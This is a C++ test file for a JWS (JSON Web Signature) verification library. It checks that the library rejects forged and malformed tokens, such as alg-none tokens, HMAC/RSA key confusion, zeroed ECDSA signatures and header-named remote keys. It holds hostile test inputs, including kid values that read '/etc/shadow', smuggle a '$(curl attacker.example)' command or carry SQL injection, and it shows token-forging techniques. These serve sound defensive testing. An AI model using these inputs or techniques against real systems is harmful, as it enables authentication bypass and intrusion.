// JWS compact serialization: signing and verifying with every algorithm, the parsing rules
// for hostile tokens, header handling (crit, b64, typ, kid, key_id), and docs/security.md
// rows 1–4 (alg none, HS/RS confusion, zero and odd-sized signatures, header-named keys).
#include "support.hpp"

#include <boost/json/serialize.hpp>

#include <utility>

using namespace jose_test;
using jose::algorithm;

// docs/security.md row 4 says "no network call": the JOSE layer cannot make one. This
// translation unit includes only tessera's JOSE headers (through support.hpp), and none of them
// pulls in a socket or HTTP library.
#if defined(BOOST_ASIO_VERSION) || defined(BOOST_BEAST_VERSION) || defined(CURLINC_CURL_H)
#error "tessera/jose must not depend on a network library"
#endif

namespace {

constexpr std::string_view claims = R"({"sub":"alice","scope":"read"})";

// One generated key per algorithm, made on first use (RSA generation is slow, and ctest runs
// each test case in its own process).
const jose::jwk& key_for(algorithm alg) {
  static std::array<jose::jwk, jose::algorithm_count> keys;
  auto& k = keys[static_cast<std::size_t>(alg)];
  if (!k.valid()) k = jose::jwk::generate(alg);
  return k;
}

std::vector<algorithm> all_algorithms() {
  std::vector<algorithm> v;
  for (std::size_t i = 0; i < jose::algorithm_count; ++i) v.push_back(static_cast<algorithm>(i));
  return v;
}

std::error_code verify_error(std::string_view token, const jose::jwk_set& set, const jose::jws_verify_options& opt = {}) {
  std::error_code ec;
  auto r = jose::verify_jws(token, set, opt, ec);
  if (ec) {
    CHECK(r.key == nullptr);
    CHECK(r.payload.empty());
  }
  return ec;
}

std::string header_for(const jose::jwk& key, std::string_view extra = {}) {
  std::string h = "{\"alg\":\"" + std::string(jose::to_string(key.alg())) + "\"";
  if (!key.kid().empty()) h += ",\"kid\":\"" + key.kid() + "\"";
  h += extra;
  h += "}";
  return h;
}

// A verifying set with one ES256 key, and a token with any header signed by it.
struct es256_fixture {
  jose::jwk key = key_for(algorithm::ES256);
  jose::jwk_set set{key.public_key()};
  std::string token(std::string_view extra_header, std::string_view payload = claims) const {
    return forge(key, header_for(key, extra_header), payload);
  }
};

}  // namespace

// The result of verify_jws points into the key set, so a temporary set cannot be passed.
template <class Set>
concept can_verify_with = requires(Set&& s) { jose::verify_jws(std::string_view{}, std::forward<Set>(s)); };
static_assert(can_verify_with<const jose::jwk_set&>);
static_assert(!can_verify_with<jose::jwk_set>, "a temporary jwk_set would leave verified_jws::key dangling");

//------------------------------------------------------------------------------------------
// Round trips

TEST_CASE("every algorithm signs with a generated key and verifies with its public half") {
  for (auto alg : all_algorithms()) {
    INFO(jose::to_string(alg));
    const auto& key = key_for(alg);
    REQUIRE(key.alg() == alg);
    const jose::jwk_set set{key.public_key()};
    jose::jws_signer signer(key, "at+jwt");
    std::error_code ec;
    std::string token = signer.sign(claims, ec);
    REQUIRE_FALSE(ec);
    CHECK(std::count(token.begin(), token.end(), '.') == 2);
    auto r = jose::verify_jws(token, set, {}, ec);
    REQUIRE_FALSE(ec);
    CHECK(r.payload == claims);
    CHECK(r.alg == alg);
    CHECK(r.key == &set[0]);
    CHECK(r.header.at("alg").as_string() == jose::to_string(alg));
    CHECK(r.header.at("typ").as_string() == "at+jwt");
    CHECK(raw_signature(token).size() == key.signature_size());
    // The header carries the kid of asymmetric keys (their thumbprint), none for secrets.
    CHECK(r.header.contains("kid") == !jose::is_hmac(alg));
  }
}

TEST_CASE("a token signed by another key of the same algorithm does not verify") {
  for (auto alg : all_algorithms()) {
    INFO(jose::to_string(alg));
    auto other = jose::jwk::generate(alg).with_kid(key_for(alg).kid());
    const jose::jwk_set set{key_for(alg).public_key()};
    CHECK_INVALID_TOKEN(verify_error(jose::jws_signer(other).sign(claims), set), error::signature_invalid);
  }
}

TEST_CASE("changing any segment of a signed token breaks it") {
  es256_fixture f;
  const std::string token = jose::jws_signer(f.key).sign(claims);
  const auto d1 = token.find('.'), d2 = token.rfind('.');
  // Payload: a different claim set under the same header and signature.
  std::string payload_swapped = token.substr(0, d1 + 1) + b64(R"({"sub":"mallory","scope":"read"})") + token.substr(d2);
  CHECK_INVALID_TOKEN(verify_error(payload_swapped, f.set), error::signature_invalid);
  // Header: same key, an added member.
  std::string header_swapped = b64(header_for(f.key, ",\"typ\":\"at+jwt\"")) + token.substr(d1);
  CHECK_INVALID_TOKEN(verify_error(header_swapped, f.set), error::signature_invalid);
  // Signature: one bit.
  std::string sig = raw_signature(token);
  sig[10] ^= 1;
  CHECK_INVALID_TOKEN(verify_error(with_signature(token, sig), f.set), error::signature_invalid);
}

//------------------------------------------------------------------------------------------
// Malformed tokens

TEST_CASE("tokens without exactly three segments are rejected with jws_malformed") {
  es256_fixture f;
  const std::string token = jose::jws_signer(f.key).sign(claims);
  for (std::string bad : {std::string(""), std::string("abc"), token.substr(0, token.rfind('.')), token + ".",
                          token + ".AAAA", std::string(".."), std::string("...")}) {
    INFO(bad);
    CHECK_INVALID_TOKEN(verify_error(bad, f.set), error::jws_malformed);
  }
  CHECK_INVALID_TOKEN(verify_error("." + token.substr(token.find('.') + 1), f.set), error::jws_malformed);
}

TEST_CASE("empty payload and empty signature segments") {
  es256_fixture f;
  // An empty payload is a valid JWS (RFC 7515 §7.1): it verifies and decodes to "".
  const std::string empty_payload = f.token("", "");
  CHECK(empty_payload.find("..") != std::string::npos);
  std::error_code ec;
  auto r = jose::verify_jws(empty_payload, f.set, {}, ec);
  CHECK_FALSE(ec);
  CHECK(r.payload.empty());
  // An empty signature never is.
  CHECK_INVALID_TOKEN(verify_error(signing_input(empty_payload) + ".", f.set), error::signature_length);
}

TEST_CASE("padding or characters outside base64url in any segment are rejected") {
  es256_fixture f;
  const std::string token = f.token("");
  const auto d1 = token.find('.'), d2 = token.rfind('.');
  const std::string h = token.substr(0, d1), p = token.substr(d1 + 1, d2 - d1 - 1), s = token.substr(d2 + 1);

  CHECK_INVALID_TOKEN(verify_error(h + "=." + p + "." + s, f.set), error::jws_header_invalid);
  CHECK_INVALID_TOKEN(verify_error(h + "+." + p + "." + s, f.set), error::jws_header_invalid);
  CHECK_INVALID_TOKEN(verify_error(h + " ." + p + "." + s, f.set), error::jws_header_invalid);
  // Standard-alphabet characters in the signature are not base64url.
  std::string std_sig = s;
  std_sig[0] = '+';
  CHECK_INVALID_TOKEN(verify_error(h + "." + p + "." + std_sig, f.set), error::signature_invalid);
  CHECK_INVALID_TOKEN(verify_error(h + "." + p + "." + s + "=", f.set), error::signature_length);
  CHECK_INVALID_TOKEN(verify_error(h + "." + p + "." + s + "==", f.set), error::signature_length);

  // A payload with padding, signed as is: the signature verifies over the exact bytes, then
  // the payload's encoding is refused.
  std::string padded_payload = b64("{\"a\":1}");
  while (padded_payload.size() % 4) padded_payload += '=';
  std::string input = b64(header_for(f.key)) + "." + padded_payload;
  std::string sig;
  REQUIRE_FALSE(f.key.sign(input, sig));
  CHECK_INVALID_TOKEN(verify_error(input + "." + sig, f.set), error::jws_malformed);
  // Same for a payload character outside the alphabet.
  input = b64(header_for(f.key)) + ".e30*";
  sig.clear();
  REQUIRE_FALSE(f.key.sign(input, sig));
  CHECK_INVALID_TOKEN(verify_error(input + "." + sig, f.set), error::jws_malformed);
}

TEST_CASE("a non-canonical base64url encoding of the signature is rejected") {
  // 64 bytes encode to 86 characters whose last one carries 4 zero bits; setting them gives
  // another string that lax decoders map to the same bytes.
  es256_fixture f;
  const std::string token = f.token("");
  std::string s = signature_segment(token);
  REQUIRE(s.size() == 86);
  const std::string alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  auto idx = alphabet.find(s.back());
  REQUIRE((idx & 0x0f) == 0);
  s.back() = alphabet[idx | 1];
  CHECK_INVALID_TOKEN(verify_error(signing_input(token) + "." + s, f.set), error::signature_invalid);
}

TEST_CASE("a header that is not a JSON object is rejected with jws_header_invalid") {
  es256_fixture f;
  for (std::string_view header : {"not json", "[\"alg\",\"ES256\"]", "\"ES256\"", "null", "{\"alg\":\"ES256\"",
                                  "{\"alg\":\"ES256\"} trailing", " "}) {
    INFO(header);
    CHECK_INVALID_TOKEN(verify_error(forge(f.key, header, claims), f.set), error::jws_header_invalid);
  }
  // Nesting deeper than the header limit.
  std::string deep = "{\"alg\":\"ES256\",\"x\":" + std::string(20, '[') + std::string(20, ']') + "}";
  CHECK_INVALID_TOKEN(verify_error(forge(f.key, deep, claims), f.set), error::jws_header_invalid);
}

TEST_CASE("alg must be present, a string, registered and not none") {
  es256_fixture f;
  CHECK_INVALID_TOKEN(verify_error(forge(f.key, "{\"kid\":\"" + f.key.kid() + "\"}", claims), f.set), error::jws_alg_missing);
  for (std::string_view alg : {"1", "null", "[\"ES256\"]", "{\"name\":\"ES256\"}", "true"}) {
    INFO(alg);
    CHECK_INVALID_TOKEN(verify_error(forge(f.key, "{\"alg\":" + std::string(alg) + "}", claims), f.set),
                        error::jws_header_invalid);
  }
  for (std::string_view alg : {"es256", "ES256 ", "HS1", "RSA-OAEP", "", "ES256K", "Ed25519"}) {
    INFO(alg);
    CHECK_INVALID_TOKEN(verify_error(forge(f.key, "{\"alg\":\"" + std::string(alg) + "\"}", claims), f.set),
                        error::jws_alg_not_allowed);
  }
}

TEST_CASE("oversized tokens are refused before decoding") {
  es256_fixture f;
  jose::jws_verify_options opt;
  const std::string token = f.token("");
  opt.max_token_size = token.size();
  std::error_code ec;
  jose::verify_jws(token, f.set, opt, ec);
  CHECK_FALSE(ec);
  opt.max_token_size = token.size() - 1;
  CHECK(verify_error(token, f.set, opt) == error::token_too_large);
  CHECK(tessera::condition_of(error::token_too_large) == tessera::condition::invalid_token);
  CHECK(verify_error(token, f.set, opt) == condition::invalid_token);  // RFC 6750 §3.1: a bad bearer token
  // Default limit: 16 KiB, even for garbage.
  CHECK(verify_error(std::string(16 * 1024 + 1, 'A'), f.set) == error::token_too_large);
}

//------------------------------------------------------------------------------------------
// Header parameters

TEST_CASE("crit: unknown extensions are rejected, understood ones accepted, b64 never") {
  es256_fixture f;
  jose::jws_verify_options understood;
  understood.understood_critical = {"exp-hint"};

  const auto unknown = f.token(R"(,"crit":["exp-hint"],"exp-hint":1)");
  CHECK_INVALID_TOKEN(verify_error(unknown, f.set), error::jws_crit_unsupported);
  std::error_code ec;
  jose::verify_jws(unknown, f.set, understood, ec);
  CHECK_FALSE(ec);

  CHECK_INVALID_TOKEN(verify_error(f.token(R"(,"crit":["exp-hint","other"],"exp-hint":1,"other":2)"), f.set, understood),
                      error::jws_crit_unsupported);
  // RFC 7515 §4.1.11: a named parameter must be present; crit must be a non-empty array of strings.
  CHECK_INVALID_TOKEN(verify_error(f.token(R"(,"crit":["exp-hint"])"), f.set, understood), error::jws_header_invalid);
  CHECK_INVALID_TOKEN(verify_error(f.token(R"(,"crit":[])"), f.set, understood), error::jws_header_invalid);
  CHECK_INVALID_TOKEN(verify_error(f.token(R"(,"crit":"exp-hint","exp-hint":1)"), f.set, understood), error::jws_header_invalid);
  CHECK_INVALID_TOKEN(verify_error(f.token(R"(,"crit":[1])"), f.set, understood), error::jws_header_invalid);

  // RFC 7797 unencoded payloads are not supported, even when the caller lists b64.
  jose::jws_verify_options with_b64 = understood;
  with_b64.understood_critical.push_back("b64");
  CHECK_INVALID_TOKEN(verify_error(f.token(R"(,"crit":["b64"],"b64":false)"), f.set, with_b64), error::jws_b64_unsupported);
  CHECK_INVALID_TOKEN(verify_error(f.token(R"(,"crit":["b64"],"b64":false)"), f.set), error::jws_b64_unsupported);
  CHECK_INVALID_TOKEN(verify_error(f.token(R"(,"b64":false)"), f.set), error::jws_b64_unsupported);
  CHECK_INVALID_TOKEN(verify_error(f.token(R"(,"b64":"true")"), f.set), error::jws_b64_unsupported);
  // b64:true is the default encoding: harmless without crit.
  jose::verify_jws(f.token(R"(,"b64":true)"), f.set, {}, ec);
  CHECK_FALSE(ec);
}

TEST_CASE("typ: at+jwt matches application/AT+JWT, and JWT or a missing typ is typ_mismatch") {
  es256_fixture f;
  jose::jws_verify_options opt;
  opt.required_typ = "at+jwt";
  std::error_code ec;
  for (std::string_view typ : {"at+jwt", "AT+JWT", "application/at+jwt", "application/AT+JWT", "Application/At+Jwt"}) {
    INFO(typ);
    jose::verify_jws(f.token(",\"typ\":\"" + std::string(typ) + "\""), f.set, opt, ec);
    CHECK_FALSE(ec);
  }
  for (std::string_view typ : {"JWT", "jwt", "application/jwt", "at+jwt ", "at-jwt", "application/", "secevent+jwt", ""}) {
    INFO(typ);
    CHECK_INVALID_TOKEN(verify_error(f.token(",\"typ\":\"" + std::string(typ) + "\""), f.set, opt), error::typ_mismatch);
  }
  CHECK_INVALID_TOKEN(verify_error(f.token(""), f.set, opt), error::typ_mismatch);
  CHECK_INVALID_TOKEN(verify_error(f.token(",\"typ\":7"), f.set, opt), error::typ_mismatch);
  // Not required: anything goes.
  jose::verify_jws(f.token(",\"typ\":\"JWT\""), f.set, {}, ec);
  CHECK_FALSE(ec);
}

TEST_CASE("kid selects the key, an unknown kid is jws_kid_unknown, a non-string kid is malformed") {
  auto a = jose::jwk::generate(algorithm::ES256).with_kid("a");
  auto b = jose::jwk::generate(algorithm::ES256).with_kid("b");
  const jose::jwk_set set{a.public_key(), b.public_key()};
  std::error_code ec;
  auto r = jose::verify_jws(jose::jws_signer(b).sign(claims), set, {}, ec);
  REQUIRE_FALSE(ec);
  CHECK(r.key->kid() == "b");
  CHECK_INVALID_TOKEN(verify_error(jose::jws_signer(b.with_kid("c")).sign(claims), set), error::jws_kid_unknown);
  // b's token claiming to be a's fails the signature: the kid chose a.
  CHECK_INVALID_TOKEN(verify_error(jose::jws_signer(b.with_kid("a")).sign(claims), set), error::signature_invalid);
  CHECK_INVALID_TOKEN(verify_error(forge(b, R"({"alg":"ES256","kid":1})", claims), set), error::jws_header_invalid);
  CHECK_INVALID_TOKEN(verify_error(forge(b, R"({"alg":"ES256","kid":null})", claims), set), error::jws_header_invalid);
}

TEST_CASE("a token without kid uses the set's only key for its alg, and is ambiguous with two") {
  auto one = jose::jwk::generate(algorithm::ES256);
  auto two = jose::jwk::generate(algorithm::ES256);
  auto rsa = jose::jwk::generate(algorithm::RS256);
  const std::string token = forge(one, R"({"alg":"ES256"})", claims);

  const jose::jwk_set single{one.public_key(), rsa.public_key()};  // one ES256 key among others
  std::error_code ec;
  auto r = jose::verify_jws(token, single, {}, ec);
  CHECK_FALSE(ec);
  CHECK(r.key == &single[0]);

  const jose::jwk_set pair{one.public_key(), two.public_key()};
  CHECK_INVALID_TOKEN(verify_error(token, pair), error::jws_key_ambiguous);

  const jose::jwk_set none{rsa.public_key()};
  CHECK_INVALID_TOKEN(verify_error(token, none), error::jws_kid_unknown);
  const jose::jwk_set empty;
  CHECK_INVALID_TOKEN(verify_error(token, empty), error::jws_kid_unknown);
}

TEST_CASE("Flyte's key_id header selects a key only when accept_key_id_header is on") {
  auto a = jose::jwk::generate(algorithm::RS256).with_kid("a");
  auto b = jose::jwk::generate(algorithm::RS256).with_kid("b");
  const jose::jwk_set set{a.public_key(), b.public_key()};
  const std::string token = forge(b, R"({"alg":"RS256","key_id":"b"})", claims);

  CHECK_INVALID_TOKEN(verify_error(token, set), error::jws_key_ambiguous);  // key_id ignored
  jose::jws_verify_options flyte;
  flyte.accept_key_id_header = true;
  std::error_code ec;
  auto r = jose::verify_jws(token, set, flyte, ec);
  REQUIRE_FALSE(ec);
  CHECK(r.key->kid() == "b");
  // Still only an index into the set.
  CHECK_INVALID_TOKEN(verify_error(forge(b, R"({"alg":"RS256","key_id":"https://evil/key"})", claims), set, flyte),
                      error::jws_kid_unknown);
  CHECK_INVALID_TOKEN(verify_error(forge(b, R"({"alg":"RS256","key_id":5})", claims), set, flyte), error::jws_header_invalid);
  // kid wins over key_id.
  CHECK_INVALID_TOKEN(verify_error(forge(b, R"({"alg":"RS256","kid":"a","key_id":"b"})", claims), set, flyte),
                      error::signature_invalid);
}

//------------------------------------------------------------------------------------------
// docs/security.md rows 1–4

TEST_CASE("alg none token is rejected with invalid_token") {
  es256_fixture f;
  const std::string body = b64(claims);
  for (std::string_view header : {R"({"alg":"none"})", R"({"alg":"none","typ":"JWT"})"}) {
    const std::string h = b64(header);
    CHECK_INVALID_TOKEN(verify_error(h + "." + body + ".", f.set), error::jws_alg_none);
    // With a signature appended (some libraries ignore it for none).
    CHECK_INVALID_TOKEN(verify_error(h + "." + body + "." + signature_segment(f.token("")), f.set), error::jws_alg_none);
  }
  // Case variants are not "none", and not registered either.
  for (std::string_view alg : {"None", "NONE", "nOnE"}) {
    CHECK_INVALID_TOKEN(verify_error(b64("{\"alg\":\"" + std::string(alg) + "\"}") + "." + body + ".", f.set),
                        error::jws_alg_not_allowed);
  }
  // "none" cannot be parsed into an algorithm at all.
  std::error_code ec;
  CHECK_FALSE(jose::parse_algorithm("none", ec).has_value());
  CHECK(ec == error::jws_alg_none);
}

TEST_CASE("HS256 token signed with the RSA public key's PEM as HMAC secret is rejected") {
  auto rsa = jose::jwk::generate(algorithm::RS256);
  const jose::jwk_set set{rsa.public_key()};
  // The attacker knows the public key, in every textual form a confused verifier might use.
  const std::string pem = rsa.public_pem();
  const std::string jwk_text = boost::json::serialize(rsa.public_json());
  for (const std::string& secret : {pem, pem.substr(0, pem.size() - 1), jwk_text}) {
    auto hmac = jose::jwk::from_secret(secret, algorithm::HS256);
    // With the RSA key's kid: the kid finds the RSA key, which is bound to RS256.
    CHECK_INVALID_TOKEN(verify_error(forge(hmac, R"({"alg":"HS256","kid":")" + rsa.kid() + "\"}", claims), set),
                        error::jws_alg_not_allowed);
    // Without a kid: there is no HS256 key to pick.
    CHECK_INVALID_TOKEN(verify_error(forge(hmac, R"({"alg":"HS256"})", claims), set), error::jws_kid_unknown);
  }
  // The same holds for a PEM imported from text.
  const jose::jwk_set from_pem{jose::jwk::from_pem(pem, algorithm::RS256)};
  auto hmac = jose::jwk::from_secret(pem, algorithm::HS256);
  CHECK_INVALID_TOKEN(verify_error(forge(hmac, R"({"alg":"HS256"})", claims), from_pem), error::jws_kid_unknown);
  // And with an EC key, ES256 → HS256.
  auto ec_key = jose::jwk::generate(algorithm::ES256);
  const jose::jwk_set ec_set{ec_key.public_key()};
  auto ec_hmac = jose::jwk::from_secret(ec_key.public_pem(), algorithm::HS256);
  CHECK_INVALID_TOKEN(verify_error(forge(ec_hmac, R"({"alg":"HS256","kid":")" + ec_key.kid() + "\"}", claims), ec_set),
                      error::jws_alg_not_allowed);
}

TEST_CASE("a token's alg never changes how its key is used: RS256 key, PS256 token") {
  auto rsa = jose::jwk::generate(algorithm::RS256);
  const jose::jwk_set set{rsa.public_key()};
  auto as_pss = jose::jwk::from_pem(rsa.private_pem(), algorithm::PS256).with_kid(rsa.kid());
  CHECK_INVALID_TOKEN(verify_error(jose::jws_signer(as_pss).sign(claims), set), error::jws_alg_not_allowed);
}

TEST_CASE("ECDSA signature with r = s = 0 is rejected") {
  for (auto alg : {algorithm::ES256, algorithm::ES384, algorithm::ES512}) {
    INFO(jose::to_string(alg));
    const auto& key = key_for(alg);
    const jose::jwk_set set{key.public_key()};
    const std::string token = jose::jws_signer(key).sign(claims);
    const std::size_t n = key.signature_size() / 2;
    const std::string good = raw_signature(token);
    // r = s = 0 (CVE-2022-21449), and each half zero on its own.
    CHECK_INVALID_TOKEN(verify_error(with_signature(token, std::string(2 * n, '\0')), set), error::signature_invalid);
    CHECK_INVALID_TOKEN(verify_error(with_signature(token, std::string(n, '\0') + good.substr(n)), set),
                        error::signature_invalid);
    CHECK_INVALID_TOKEN(verify_error(with_signature(token, good.substr(0, n) + std::string(n, '\0')), set),
                        error::signature_invalid);
    // r = s = all ones (≥ the group order).
    CHECK_INVALID_TOKEN(verify_error(with_signature(token, std::string(2 * n, '\xff')), set), error::signature_invalid);
  }
}

TEST_CASE("ECDSA signature with r = s = n (the P-256 group order) is rejected") {
  // n ≡ 0 mod n: the other half of CVE-2022-21449.
  const std::string order =
      tessera::crypto::base64url_decode("_____wAAAAD__________7zm-q2nF56E87nKwvxjJVE");
  REQUIRE(order.size() == 32);
  const auto& key = key_for(algorithm::ES256);
  const jose::jwk_set set{key.public_key()};
  const std::string token = jose::jws_signer(key).sign(claims);
  CHECK_INVALID_TOKEN(verify_error(with_signature(token, order + order), set), error::signature_invalid);
  // (r, s) and (r, n - s) are both valid ECDSA; swapping r and s is not.
  std::string sig = raw_signature(token);
  CHECK_INVALID_TOKEN(verify_error(with_signature(token, sig.substr(32) + sig.substr(0, 32)), set), error::signature_invalid);
}

TEST_CASE("empty, short, long and all-zero signatures are rejected for every algorithm") {
  for (auto alg : all_algorithms()) {
    INFO(jose::to_string(alg));
    const auto& key = key_for(alg);
    const jose::jwk_set set{key.public_key()};
    const std::string token = jose::jws_signer(key).sign(claims);
    const std::string good = raw_signature(token);
    const std::size_t size = key.signature_size();
    CHECK_INVALID_TOKEN(verify_error(signing_input(token) + ".", set), error::signature_length);
    CHECK_INVALID_TOKEN(verify_error(with_signature(token, good.substr(0, size - 1)), set), error::signature_length);
    CHECK_INVALID_TOKEN(verify_error(with_signature(token, good.substr(0, 1)), set), error::signature_length);
    CHECK_INVALID_TOKEN(verify_error(with_signature(token, good + '\0'), set), error::signature_length);
    CHECK_INVALID_TOKEN(verify_error(with_signature(token, good + good), set), error::signature_length);
    CHECK_INVALID_TOKEN(verify_error(with_signature(token, std::string(size, '\0')), set), error::signature_invalid);
    // The DER form of an ECDSA signature is not the JWS form.
    if (key.kty() == jose::key_type::EC) {
      std::string der = "\x30" + std::string(1, static_cast<char>(size + 4)) + "\x02" +
                        std::string(1, static_cast<char>(size / 2)) + good.substr(0, size / 2) + "\x02" +
                        std::string(1, static_cast<char>(size / 2)) + good.substr(size / 2);
      CHECK_INVALID_TOKEN(verify_error(with_signature(token, der), set), error::signature_length);
    }
    // The raw key API checks the length too.
    CHECK(key.verify(signing_input(token), {}) == error::signature_length);
    CHECK_FALSE(key.verify(signing_input(token),
                           std::span(reinterpret_cast<const unsigned char*>(good.data()), good.size())));
  }
}

TEST_CASE("jku, x5u, jwk and x5c headers are rejected without any network call") {
  // tessera/jose has no HTTP client (see the #error guard at the top of this file): a key
  // named by a token cannot be fetched, and is refused even when the signature verifies with
  // a configured key.
  es256_fixture f;
  const std::string embedded = boost::json::serialize(f.key.public_json());
  const std::pair<const char*, std::string> members[] = {
      {"jku", R"("https://attacker.example/jwks.json")"},
      {"x5u", R"("https://attacker.example/cert.pem")"},
      {"jwk", embedded},
      {"x5c", R"(["MIIBszCCAVmgAwIBAgIUZm9vYmFy"])"},
  };
  for (const auto& [name, value] : members) {
    INFO(name);
    CHECK_INVALID_TOKEN(verify_error(f.token(",\"" + std::string(name) + "\":" + value), f.set),
                        error::jws_header_key_reference);
    // Even with no kid and no usable key at all.
    const jose::jwk_set empty;
    CHECK_INVALID_TOKEN(verify_error(forge(f.key, "{\"alg\":\"ES256\",\"" + std::string(name) + "\":" + value + "}", claims),
                                     empty),
                        error::jws_header_key_reference);
  }
  // An attacker's own key embedded as jwk, signing with it: still refused before any lookup.
  auto attacker = jose::jwk::generate(algorithm::ES256);
  const std::string self_signed =
      forge(attacker, R"({"alg":"ES256","jwk":)" + boost::json::serialize(attacker.public_json()) + "}", claims);
  CHECK_INVALID_TOKEN(verify_error(self_signed, f.set), error::jws_header_key_reference);
}

TEST_CASE("kid injection (path traversal/SQL text) only indexes the configured set") {
  es256_fixture f;
  const std::string kids[] = {"../../../../etc/passwd",
                              "/dev/null",
                              "' OR '1'='1",
                              "x'; DROP TABLE keys; --",
                              "|cat /etc/shadow",
                              "$(curl attacker.example)",
                              "https://attacker.example/key.pem",
                              std::string("a\0b", 3),
                              std::string(4000, 'k'),
                              f.key.kid() + "\\u0000",
                              f.key.kid() + " ",
                              ""};
  for (const auto& kid : kids) {
    INFO(kid.substr(0, 40));
    boost::json::object header{{"alg", "ES256"}, {"kid", kid}};
    CHECK_INVALID_TOKEN(verify_error(forge(f.key, boost::json::serialize(header), claims), f.set), error::jws_kid_unknown);
  }
  // The real kid, even spelled with a JSON escape, is the one that selects the key.
  const std::string kid = f.key.kid();
  char escape[8];
  std::snprintf(escape, sizeof escape, "\\u%04x", static_cast<unsigned>(kid[0]));
  std::error_code ec;
  jose::verify_jws(forge(f.key, std::string(R"({"alg":"ES256","kid":")") + escape + kid.substr(1) + "\"}", claims), f.set, {}, ec);
  CHECK_FALSE(ec);
}

TEST_CASE("a token claiming the kid of a shared secret with another alg is not verified by it") {
  auto hs256 = jose::jwk::generate(algorithm::HS256).with_kid("shared");
  const jose::jwk_set set{hs256};
  auto hs512 = jose::jwk::from_secret(std::string(64, 'z'), algorithm::HS512).with_kid("shared");
  CHECK_INVALID_TOKEN(verify_error(jose::jws_signer(hs512).sign(claims), set), error::jws_alg_not_allowed);
}

//------------------------------------------------------------------------------------------
// Throwing overloads

TEST_CASE("verify_jws and jws_signer throwing overloads throw tessera::system_error with the same code") {
  es256_fixture f;
  auto code_of = [](auto&& fn) -> std::error_code {
    try {
      fn();
    } catch (const tessera::system_error& e) {
      return e.code();
    }
    return {};
  };
  CHECK(code_of([&] { jose::verify_jws("a.b", f.set); }) == error::jws_malformed);
  CHECK(code_of([&] { jose::verify_jws(b64(R"({"alg":"none"})") + "." + b64(claims) + ".", f.set); }) == error::jws_alg_none);
  CHECK(code_of([&] { jose::verify_jws(f.token(R"(,"jku":"x")"), f.set); }) == error::jws_header_key_reference);
  CHECK(code_of([&] { jose::jws_signer(f.key.public_key()).sign(claims); }) == error::key_not_private);
  // No throw on success.
  CHECK_FALSE(code_of([&] { CHECK(jose::verify_jws(f.token(""), f.set).payload == claims); }));
  try {
    jose::verify_jws("a.b", f.set);
    FAIL("no exception");
  } catch (const tessera::system_error& e) {
    CHECK(e.code() == condition::invalid_token);
    CHECK(std::string(e.what()).find("a.b") == std::string::npos);  // no token text in messages
  }
}
